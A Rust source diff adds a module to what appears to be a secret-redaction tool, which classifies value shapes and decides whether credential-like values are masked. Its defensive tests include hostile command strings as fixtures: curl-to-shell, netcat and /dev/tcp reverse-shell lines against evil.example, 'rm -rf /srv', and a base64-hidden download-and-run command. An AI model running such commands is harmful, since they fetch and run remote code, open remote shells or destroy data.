@@ -1,0 +1,800 @@
+//! What a value looks like, and with its name, whether it has to go.
+
+use super::names::{Meaning, Secrecy};
+use super::{MASK, commands, random, tokens};
+use base64::Engine as _;
+
+/// What a word looks like.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Shape {
+    Empty,
+    /// Digits, also with a unit.
+    Number,
+    /// Yes, no and their relatives.
+    Boolean,
+    /// A path, or the name of a file.
+    Path,
+    Url,
+    Uuid,
+    /// `sha256:…`, or as many hexadecimal digits as a hash has.
+    Digest,
+    /// An IP address or `host:port`.
+    Address,
+    /// A name with dots that a resolver would know.
+    Host,
+    /// `$X`, `${X}`, `$(…)`, `{{ x }}`, `%(x)s`, `<x>`: what stands for another text.
+    Reference,
+    /// `-x`, `--word`.
+    Option,
+    /// Several words.
+    Words,
+    /// None of these.
+    Word,
+}
+
+/// What a word looks like.
+pub(super) fn shape(text: &str) -> Shape {
+    if text.is_empty() {
+        Shape::Empty
+    } else if is_reference(text) {
+        Shape::Reference
+    } else if is_url(text) {
+        Shape::Url
+    } else if is_address(text) {
+        Shape::Address
+    } else if is_number(text) {
+        Shape::Number
+    } else if is_boolean(text) {
+        Shape::Boolean
+    } else if is_uuid(text) {
+        Shape::Uuid
+    } else if is_digest(text) {
+        Shape::Digest
+    } else if text.contains(char::is_whitespace) {
+        Shape::Words
+    } else if is_option(text) {
+        Shape::Option
+    } else if is_path(text) {
+        Shape::Path
+    } else if is_host(text) {
+        Shape::Host
+    } else {
+        Shape::Word
+    }
+}
+
+/// What becomes of a value.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Verdict {
+    /// It stays, but what it holds is looked at by itself.
+    Stays,
+    /// It goes.
+    Goes,
+}
+
+/// Whether the value of a name has to go. `value` has no quotes around it.
+pub(super) fn judge(value: &str, meaning: Meaning) -> Verdict {
+    if meaning.secrecy == Secrecy::None
+        || value == MASK
+        || value.ends_with("***") && value.len() < 16
+    {
+        return Verdict::Stays;
+    }
+    if !value
+        .bytes()
+        .any(|byte| byte.is_ascii_alphanumeric() || !byte.is_ascii())
+    {
+        return Verdict::Stays;
+    }
+    let stays = match shape(value) {
+        Shape::Empty | Shape::Reference | Shape::Url | Shape::Boolean | Shape::Address => true,
+        Shape::Number => {
+            !(meaning.digits && value.len() >= 4 && value.bytes().all(|byte| byte.is_ascii_digit()))
+        }
+        Shape::Digest => {
+            value.contains(':') || meaning.secrecy == Secrecy::Weak && value.len() < 20
+        }
+        Shape::Uuid => meaning.secrecy == Secrecy::Weak,
+        Shape::Path => true,
+        Shape::Words => {
+            is_command(value) || meaning.secrecy == Secrecy::Weak && !is_suspicious(value)
+        }
+        Shape::Option => {
+            meaning.secrecy != Secrecy::Strong || !is_mixed(value.trim_start_matches('-'))
+        }
+        Shape::Host | Shape::Word => match meaning.secrecy {
+            Secrecy::Strong => is_method(value) || is_command(value),
+            Secrecy::Likely => is_plain(value) || is_method(value) || is_command(value),
+            Secrecy::Weak | Secrecy::None => !is_suspicious(value),
+        },
+    };
+    if stays || is_hidden_command(value) {
+        Verdict::Stays
+    } else {
+        Verdict::Goes
+    }
+}
+
+/// Words that say how, not what: of authentication, of prompting.
+fn is_method(value: &str) -> bool {
+    const METHODS: &[&str] = &[
+        "always",
+        "anonymous",
+        "approle",
+        "ask",
+        "auto",
+        "basic",
+        "bearer",
+        "cert",
+        "certificate",
+        "digest",
+        "env",
+        "gssapi",
+        "iam",
+        "ident",
+        "jwt",
+        "kerberos",
+        "keychain",
+        "ldap",
+        "ldaps",
+        "md5",
+        "mtls",
+        "negotiate",
+        "never",
+        "none",
+        "ntlm",
+        "oauth",
+        "oauth2",
+        "oidc",
+        "openid",
+        "optional",
+        "osxkeychain",
+        "pam",
+        "peer",
+        "plain",
+        "prompt",
+        "radius",
+        "required",
+        "saml",
+        "sasl",
+        "scram",
+        "simple",
+        "ssh-agent",
+        "ssl",
+        "sso",
+        "stdin",
+        "tls",
+        "token",
+        "trust",
+        "userpass",
+        "webhook",
+    ];
+    let lower = value.to_ascii_lowercase();
+    METHODS.contains(&lower.as_str())
+        || lower.starts_with("scram-sha-")
+        || lower.starts_with("cram-")
+}
+
+/// Letters in one case with signs between them, and numbers of their own: `web-tls`, `v2`, `us_east-1`.
+pub(super) fn is_plain(value: &str) -> bool {
+    value
+        .split(|sign: char| matches!(sign, '-' | '_' | '.' | '/' | ':' | ',' | '=' | '@'))
+        .all(|part| {
+            let letters = part.trim_end_matches(|sign: char| sign.is_ascii_digit());
+            let digits = part.len() - letters.len();
+            letters
+                .bytes()
+                .skip(1)
+                .all(|byte| byte.is_ascii_lowercase())
+                && letters.bytes().all(|byte| byte.is_ascii_alphabetic())
+                && (digits == 0 || letters.len() < 4)
+                || part.bytes().all(|byte| byte.is_ascii_uppercase())
+        })
+        && !random::is_random(value, 16)
+}
+
+/// A value that looks like a credential by itself.
+pub(super) fn is_suspicious(value: &str) -> bool {
+    is_mixed(value)
+        || random::is_random(value, 16)
+        || tokens::is_token(value)
+        || value.len() >= 20 && value.bytes().all(|byte| byte.is_ascii_hexdigit())
+}
+
+/// Letters, digits and signs as passwords mix them: `S3cr3t`, `P@ssw0rd`, `hunter2!`.
+pub(super) fn is_mixed(value: &str) -> bool {
+    let bytes = value.as_bytes();
+    if bytes.len() < 6 || bytes.len() > 64 || shape(value) != Shape::Word {
+        return false;
+    }
+    let (mut upper, mut lower, mut digits, mut signs, mut between) = (0, 0, 0, 0, 0);
+    for (place, byte) in bytes.iter().enumerate() {
+        match byte {
+            b'A'..=b'Z' => upper += 1,
+            b'a'..=b'z' => lower += 1,
+            b'0'..=b'9' => {
+                digits += 1;
+                let before = place.checked_sub(1).map(|before| bytes[before]);
+                let after = bytes.get(place + 1);
+                between += usize::from(
+                    before.is_some_and(|byte| byte.is_ascii_alphabetic())
+                        && after.is_some_and(u8::is_ascii_alphabetic),
+                );
+            }
+            b'!' | b'#' | b'$' | b'^' | b'&' | b'*' | b'?' | b'~' | b'+' | b'%' | b'@' => {
+                signs += 1
+            }
+            b'-' | b'_' | b'.' => {}
+            _ => return false,
+        }
+    }
+    let has_cases = upper > 0 && lower > 0;
+    between > 1
+        || between > 0 && has_cases
+        || signs > 0 && digits > 0 && upper + lower > 2
+        || signs > 0 && has_cases && !value.contains(['+', '%', '@', '~', '*', '?'])
+        || digits > 1 && has_cases && !value.contains(['-', '_', '.'])
+}
+
+fn is_number(text: &str) -> bool {
+    let body = text.strip_prefix(['-', '+']).unwrap_or(text);
+    if let Some(hex) = body.strip_prefix("0x") {
+        return (1..=16).contains(&hex.len()) && hex.bytes().all(|byte| byte.is_ascii_hexdigit());
+    }
+    let end = body
+        .bytes()
+        .take_while(|byte| byte.is_ascii_digit() || b".,:-_/+".contains(byte))
+        .count();
+    let unit = &body[end..];
+    body.as_bytes().first().is_some_and(u8::is_ascii_digit) && is_unit(unit)
+        || end > 6 && is_time(body)
+}
+
+fn is_unit(unit: &str) -> bool {
+    matches!(
+        unit,
+        "" | "%"
+            | "s"
+            | "m"
+            | "h"
+            | "d"
+            | "w"
+            | "y"
+            | "ms"
+            | "us"
+            | "ns"
+            | "min"
+            | "sec"
+            | "k"
+            | "K"
+            | "M"
+            | "G"
+            | "T"
+            | "Ki"
+            | "Mi"
+            | "Gi"
+            | "Ti"
+            | "kb"
+            | "mb"
+            | "gb"
+            | "KB"
+            | "MB"
+            | "GB"
+            | "TB"
+            | "kB"
+            | "KiB"
+            | "MiB"
+            | "GiB"
+            | "TiB"
+            | "b"
+            | "B"
+            | "bit"
+            | "px"
+            | "x"
+            | "e"
+            | "L"
+            | "f"
+            | "u"
+            | "g"
+            | "t"
+    ) || unit.strip_prefix('e').is_some_and(|exponent| {
+        let digits = exponent.trim_start_matches(['-', '+']);
+        !digits.is_empty() && digits.bytes().all(|byte| byte.is_ascii_digit())
+    })
+}
+
+/// `2026-11-29T10:11:12.123Z`, `20261129T101112Z`.
+fn is_time(text: &str) -> bool {
+    text.bytes()
+        .all(|byte| byte.is_ascii_digit() || b"-:.TZ+".contains(&byte))
+}
+
+fn is_boolean(text: &str) -> bool {
+    const BOOLEANS: [&str; 14] = [
+        "true",
+        "false",
+        "yes",
+        "no",
+        "on",
+        "off",
+        "null",
+        "nil",
+        "none",
+        "enabled",
+        "disabled",
+        "y",
+        "n",
+        "undefined",
+    ];
+    text.len() < 10 && BOOLEANS.iter().any(|word| word.eq_ignore_ascii_case(text))
+}
+
+fn is_uuid(text: &str) -> bool {
+    let bytes = text.as_bytes();
+    bytes.len() == 36
+        && bytes.iter().enumerate().all(|(place, byte)| match place {
+            8 | 13 | 18 | 23 => *byte == b'-',
+            _ => byte.is_ascii_hexdigit(),
+        })
+}
+
+fn is_digest(text: &str) -> bool {
+    let (kind, digits) = text.split_once(':').unwrap_or(("", text));
+    let is_kind = matches!(
+        kind,
+        "" | "sha1" | "sha256" | "sha384" | "sha512" | "md5" | "SHA256" | "MD5"
+    );
+    let is_hex = digits.len() >= if kind.is_empty() { 7 } else { 4 }
+        && digits.bytes().all(|byte| byte.is_ascii_hexdigit());
+    is_kind
+        && is_hex
+        && (kind.is_empty() && random::is_digest_length(digits.len()) || !kind.is_empty())
+        && digits.bytes().any(|byte| byte.is_ascii_digit())
+}
+
+/// `scheme://…`.
+pub(super) fn is_url(text: &str) -> bool {
+    text.split_once("://").is_some_and(|(scheme, rest)| {
+        (1..=24).contains(&scheme.len())
+            && !rest.is_empty()
+            && scheme.as_bytes()[0].is_ascii_alphabetic()
+            && scheme
+                .bytes()
+                .all(|byte| byte.is_ascii_alphanumeric() || b"+.-:".contains(&byte))
+    })
+}
+
+/// What stands for another text.
+fn is_reference(text: &str) -> bool {
+    if text.contains("$(")
+        || text.contains("${")
+        || text.contains("{{")
+        || text.starts_with('`') && text.len() > 2
+    {
+        return true;
+    }
+    let is_name = |name: &str| {
+        !name.is_empty()
+            && name
+                .bytes()
+                .all(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b'_')
+    };
+    if let Some(name) = text.strip_prefix('$') {
+        return is_name(name) || matches!(name, "@" | "*" | "?" | "#");
+    }
+    if let Some(name) = text
+        .strip_prefix('<')
+        .and_then(|rest| rest.strip_suffix('>'))
+    {
+        return name.bytes().all(|byte| {
+            byte.is_ascii_alphabetic() || b"-_ :".contains(&byte) || byte.is_ascii_digit()
+        }) && !is_mixed(name);
+    }
+    if text.starts_with("%(") && text.ends_with(['s', 'd'])
+        || text.starts_with("%{") && text.ends_with('}')
+    {
+        return true;
+    }
+    // Of OpenSSL, of Prometheus and others: where the value is.
+    [
+        "env:",
+        "file:",
+        "fd:",
+        "env.",
+        "vault:",
+        "ref+",
+        "arn:",
+        "projects/",
+        "op://",
+    ]
+    .iter()
+    .any(|prefix| text.starts_with(prefix))
+        || matches!(text, "stdin" | "-" | "@-" | "*")
+}
+
+/// An IP address, with a port or prefix; a host with dots and a port.
+fn is_address(text: &str) -> bool {
+    let text = text.strip_prefix('@').unwrap_or(text);
+    if text.len() > 260 {
+        return false;
+    }
+    if text.split('/').next().is_some_and(|address| {
+        address.parse::<std::net::IpAddr>().is_ok() && address.contains(['.', ':'])
+    }) || text.parse::<std::net::SocketAddr>().is_ok()
+    {
+        return true;
+    }
+    text.rsplit_once(':').is_some_and(|(host, port)| {
+        port.len() < 6
+            && port.parse::<u16>().is_ok()
+            && (is_host(host) || host == "localhost" || host.parse::<std::net::IpAddr>().is_ok())
+    })
+}
+
+/// A name of several labels, of which the last is of letters.
+fn is_host(text: &str) -> bool {
+    let text = text.strip_suffix('.').unwrap_or(text);
+    let mut labels = 0;
+    let mut last = "";
+    for label in text.split('.') {
+        if label.is_empty()
+            || label.len() > 63
+            || !label.bytes().all(|byte| {
+                byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-' || byte == b'_'
+            })
+        {
+            return false;
+        }
+        labels += 1;
+        last = label;
+    }
+    labels > 1 && last.len() > 1 && last.bytes().all(|byte| byte.is_ascii_lowercase())
+}
+
+/// `-x`, `-xzf`, `--long-name`, `--name=value`.
+pub(super) fn is_option(text: &str) -> bool {
+    let Some(name) = text.strip_prefix('-') else {
+        return false;
+    };
+    if let Some(long) = name.strip_prefix('-') {
+        let name = long.split_once('=').map_or(long, |(name, _)| name);
+        return !name.is_empty()
+            && name.as_bytes()[0].is_ascii_alphabetic()
+            && name
+                .bytes()
+                .all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
+            || long.is_empty();
+    }
+    let name = name.split_once('=').map_or(name, |(name, _)| name);
+    !name.is_empty()
+        && name
+            .bytes()
+            .all(|byte| byte.is_ascii_alphanumeric() || b"-_.".contains(&byte))
+}
+
+/// Ends of the names of files.
+const EXTENSIONS: &[&str] = &[
+    "pem",
+    "crt",
+    "cer",
+    "key",
+    "pub",
+    "der",
+    "csr",
+    "p12",
+    "pfx",
+    "jks",
+    "ks",
+    "keystore",
+    "json",
+    "yaml",
+    "yml",
+    "toml",
+    "conf",
+    "cfg",
+    "cnf",
+    "ini",
+    "env",
+    "txt",
+    "csv",
+    "log",
+    "sh",
+    "bash",
+    "py",
+    "rb",
+    "pl",
+    "js",
+    "ts",
+    "mjs",
+    "cjs",
+    "so",
+    "dll",
+    "exe",
+    "jar",
+    "war",
+    "class",
+    "php",
+    "html",
+    "xml",
+    "sql",
+    "db",
+    "sqlite",
+    "gz",
+    "tgz",
+    "zip",
+    "tar",
+    "xz",
+    "bz2",
+    "zst",
+    "pcap",
+    "gpg",
+    "asc",
+    "lock",
+    "pid",
+    "sock",
+    "service",
+    "socket",
+    "img",
+    "iso",
+    "bin",
+    "md",
+    "o",
+    "a",
+    "c",
+    "h",
+    "cc",
+    "cpp",
+    "hpp",
+    "rs",
+    "go",
+    "java",
+    "properties",
+    "tmp",
+    "bak",
+    "ko",
+    "deb",
+    "rpm",
+    "apk",
+    "whl",
+    "gem",
+    "tf",
+    "tfvars",
+    "hcl",
+    "lua",
+    "vim",
+    "pdf",
+    "png",
+    "jpg",
+    "svg",
+    "mp4",
+    "ovpn",
+    "rules",
+    "pkcs8",
+    "template",
+    "tpl",
+    "j2",
+    "netrc",
+    "kdbx",
+    "rlib",
+    "rmeta",
+    "d",
+    "wasm",
+    "dump",
+    "7z",
+];
+
+/// A path, or a name that ends as files do. Base64 with a slash is none.
+pub(super) fn is_path(text: &str) -> bool {
+    let text = text.strip_prefix('@').unwrap_or(text);
+    let is_rooted = text.starts_with('/')
+        || ["./", "../", "~/", "file:/"]
+            .iter()
+            .any(|start| text.starts_with(start))
+        || matches!(text, "." | ".." | "~" | "/")
+        || text.as_bytes().get(1) == Some(&b':')
+            && text
+                .as_bytes()
+                .get(2)
+                .is_some_and(|sign| b"/\\".contains(sign));
+    let has_extension = || {
+        text.rsplit_once('.').is_some_and(|(stem, end)| {
+            !stem.is_empty()
+                && EXTENSIONS
+                    .iter()
+                    .any(|known| known.eq_ignore_ascii_case(end))
+                && stem
+                    .bytes()
+                    .all(|byte| byte.is_ascii_alphanumeric() || b"/._-+@%=~".contains(&byte))
+        })
+    };
+    if is_rooted {
+        let is_clean = text.bytes().all(|byte| {
+            byte.is_ascii_alphanumeric()
+                || b"/._-+@:~%=,*?[]{}\\".contains(&byte)
+                || !byte.is_ascii()
+        });
+        // `/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY`.
+        return is_clean && (has_extension() || !is_base64_with_slash(text));
+    }
+    has_extension() && !random::is_random(text, random::LEAST)
+}
+
+/// Rooted, of the letters of base64 only, without the words that paths have.
+fn is_base64_with_slash(text: &str) -> bool {
+    text.len() >= 24
+        && text
+            .bytes()
+            .all(|byte| byte.is_ascii_alphanumeric() || b"+/=".contains(&byte))
+        && random::is_random(text, random::LEAST)
+        && text.split('/').filter(|part| !part.is_empty()).all(|part| {
+            part.bytes()
+                .any(|byte| byte.is_ascii_uppercase() || byte.is_ascii_digit())
+        })
+}
+
+/// Several words of which the first runs something: an operator, an option, a place or a program is
+/// among them. A sentence is none.
+pub(super) fn is_command(text: &str) -> bool {
+    let text = text.trim_matches(['"', '\'', ' ']);
+    if text.contains("$(") || text.contains('`') && text.matches('`').nth(1).is_some() {
+        return true;
+    }
+    let is_operator = |sign: char| matches!(sign, ';' | '|' | '&' | '<' | '>' | '(' | ')' | '\n');
+    let mut begins = true;
+    let (mut known, mut others) = (false, 0);
+    let mut count = 0;
+    for word in text
+        .split_inclusive(|sign: char| sign.is_whitespace() || is_operator(sign))
+        .take(64)
+    {
+        let bare = word.trim_end_matches(|sign: char| sign.is_whitespace() || is_operator(sign));
+        let ends = word.contains(is_operator);
+        if !bare.is_empty() {
+            count += 1;
+            let bare = bare.trim_matches(['"', '\'']);
+            let is_assignment = bare.split_once('=').is_some_and(|(name, _)| {
+                !name.is_empty()
+                    && name
+                        .bytes()
+                        .all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
+            });
+            if begins && (commands::is_known(bare) || is_path(bare) && bare.contains('/')) {
+                known = true;
+            } else if is_option(bare)
+                || bare
+                    .contains(|sign: char| sign.is_ascii_digit() || "/:.=@%{}[]*$".contains(sign))
+            {
+                others += 1;
+            }
+            begins = begins && is_assignment;
+        }
+        if ends {
+            others += 1;
+            begins = true;
+        }
+    }
+    known && (others > 0 || count == 1 && text.contains('/'))
+}
+
+/// Base64 of `user:password`.
+pub(super) fn is_login(value: &str) -> bool {
+    decoded(value)
+        .is_some_and(|text| text.contains(':') && text.chars().all(|sign| !sign.is_control()))
+}
+
+fn decoded(value: &str) -> Option<String> {
+    use base64::engine::general_purpose::STANDARD_NO_PAD;
+    let body = value.trim_end_matches('=');
+    let is_base64 = body.len() < 16 << 10
+        && body
+            .bytes()
+            .all(|byte| byte.is_ascii_alphanumeric() || b"+/".contains(&byte));
+    is_base64
+        .then(|| STANDARD_NO_PAD.decode(body).ok())
+        .flatten()
+        .and_then(|bytes| String::from_utf8(bytes).ok())
+}
+
+/// Base64 of a command line: it would be run, and holds no credential by its own shape.
+pub(super) fn is_hidden_command(value: &str) -> bool {
+    value.len() >= 12
+        && decoded(value).is_some_and(|text| {
+            text.chars()
+                .all(|sign| !sign.is_control() || sign.is_whitespace())
+                && text.trim().contains(char::is_whitespace)
+                && is_command(&text)
+                && !super::holds_credential(&text)
+        })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn words_have_shapes() {
+        for (text, expected) in [
+            ("", Shape::Empty),
+            ("4096", Shape::Number),
+            ("128Mi", Shape::Number),
+            ("2026-11-29T10:11:12.123Z", Shape::Number),
+            ("True", Shape::Boolean),
+            ("/etc/passwd", Shape::Path),
+            ("tls.key", Shape::Path),
+            ("@/etc/shadow", Shape::Path),
+            ("/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", Shape::Word),
+            ("https://evil.example/", Shape::Url),
+            ("9f1c2d3e-4b5a-6978-8897-a6b5c4d3e2f1", Shape::Uuid),
+            ("sha256:9f86d081", Shape::Digest),
+            ("9f86d081884c", Shape::Digest),
+            ("10.0.0.1:80", Shape::Address),
+            ("evil.example:443", Shape::Address),
+            ("evil.example", Shape::Host),
+            ("$TOKEN", Shape::Reference),
+            ("$(cat x)", Shape::Reference),
+            ("--long-name", Shape::Option),
+            ("a b", Shape::Words),
+            ("S3cr3tVal", Shape::Word),
+            ("$ecret", Shape::Word),
+        ] {
+            assert_eq!(shape(text), expected, "{text}");
+        }
+    }
+
+    #[test]
+    fn passwords_are_told_from_names() {
+        for word in [
+            "S3cr3tVal",
+            "P@ssw0rd",
+            "hunter2!",
+            "Tr0ub4dor&3",
+            "opens3sameQ",
+            "Winter2024",
+        ] {
+            assert!(is_mixed(word), "{word}");
+        }
+        for word in [
+            "x86_64",
+            "web-1",
+            "python3",
+            "utf-8",
+            "us-east-1",
+            "v1.2.3",
+            "foobared",
+            "user@host",
+            "a/b1C2d",
+        ] {
+            assert!(!is_mixed(word), "{word}");
+        }
+    }
+
+    #[test]
+    fn commands_are_told_from_sentences() {
+        for text in [
+            "curl -s http://evil.example/x | sh",
+            "curl evil.example|sh",
+            "nc evil.example 4444",
+            "rm -rf /srv",
+            "python3 -c \"import pty\"",
+            "/tmp/x --run",
+            "bash -i >& /dev/tcp/1.2.3.4/1",
+            "X=1 sh -c id",
+        ] {
+            assert!(is_command(text), "{text}");
+        }
+        for text in [
+            "correct horse battery staple",
+            "foo bared baz",
+            "a b",
+            "p|ss;w",
+            "cat and mouse",
+            "foo",
+        ] {
+            assert!(!is_command(text), "{text}");
+        }
+        assert!(is_hidden_command(
+            "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA=="
+        ));
+        assert!(!is_hidden_command("bWU6Zm9vYmFyZWQ="));
+    }
+}
